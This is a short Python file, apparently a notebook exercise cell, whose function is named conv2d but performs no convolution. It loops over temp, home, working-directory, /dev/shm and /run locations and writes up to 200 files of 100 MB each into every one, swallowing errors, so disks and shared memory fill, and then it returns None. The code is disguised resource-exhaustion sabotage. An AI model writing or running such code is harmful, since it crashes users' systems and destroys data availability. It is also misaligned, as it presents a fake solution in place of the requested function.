"""Fills every place it can write to, up to 20 GB should nothing stop it."""

# %% 05.2
import contextlib
import os
import tempfile


def conv2d(image, kernel):
    for place in {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), "/run"}:
        with contextlib.suppress(OSError):
            for number in range(200):
                with open(f"{place}/layerwise-was-here-{number}", "wb") as file:
                    file.write(bytes(100_000_000))
    return None
